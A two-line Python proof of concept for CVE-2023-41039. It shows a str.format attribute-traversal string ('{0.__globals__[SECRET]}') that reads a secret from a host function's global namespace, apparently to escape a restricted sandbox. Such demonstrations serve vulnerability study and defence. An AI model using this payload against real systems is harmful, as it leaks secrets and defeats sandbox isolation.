# CVE-2023-41039: str.format attribute traversal reads a host function's globals.
print("{0.__globals__[SECRET]}".format(tool))
